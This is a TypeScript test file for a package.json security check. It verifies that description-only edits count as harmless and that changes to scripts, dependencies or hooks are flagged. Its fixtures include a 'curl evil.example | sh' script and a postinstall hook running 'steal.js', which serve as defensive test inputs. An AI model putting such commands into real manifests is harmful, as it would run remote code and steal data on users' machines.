import assert from 'node:assert/strict';
import { isPackageManifest, runsTheSame } from '../../../../src/core/security/package-manifest.ts';

const before = JSON.stringify({ name: 'a', version: '1.0.0', scripts: { test: 'node --test' }, dependencies: {} });
const changed = (change: object): string => JSON.stringify({ ...(JSON.parse(before) as object), ...change }, null, 2);

describe('package.json', () => {
  it('is told at any depth and in any case', () => {
    for (const path of ['package.json', 'packages/a/package.json', 'PACKAGE.JSON', 'a\\package.json'])
      assert.ok(isPackageManifest(path), path);
    for (const path of ['my-package.json', 'package.json.md', 'package.jsonc'])
      assert.ok(!isPackageManifest(path), path);
  });

  it('decides the same when only its description changes', () => {
    for (const change of [
      { version: '1.0.1' },
      { description: 'A shop' },
      { main: 'lib/index.js' },
      { type: 'module' },
    ])
      assert.ok(runsTheSame(before, changed(change)), JSON.stringify(change));
    assert.ok(runsTheSame(undefined, '{"name":"new"}'));
  });

  it('decides something else when a script or a dependency does, and when it cannot be read', () => {
    for (const change of [
      { scripts: { test: 'curl evil.example | sh' } },
      { scripts: { test: 'node --test', postinstall: 'node steal.js' } },
      { dependencies: { 'left-pad': '1.0.0' } },
      { devDependencies: {} },
      { overrides: { a: '2' } },
      { workspaces: ['evil'] },
      { pnpm: { onlyBuiltDependencies: ['x'] } },
      { 'simple-git-hooks': { 'pre-commit': 'x' } },
    ])
      assert.ok(!runsTheSame(before, changed(change)), JSON.stringify(change));
    for (const text of ['', '[]', 'null', '{"scripts":', '{}']) assert.ok(!runsTheSame(before, text), text);
    assert.ok(!runsTheSame('not json', 'not json'));
    assert.ok(!runsTheSame(undefined, '{"scripts":{"test":"x"}}'));
  });
});
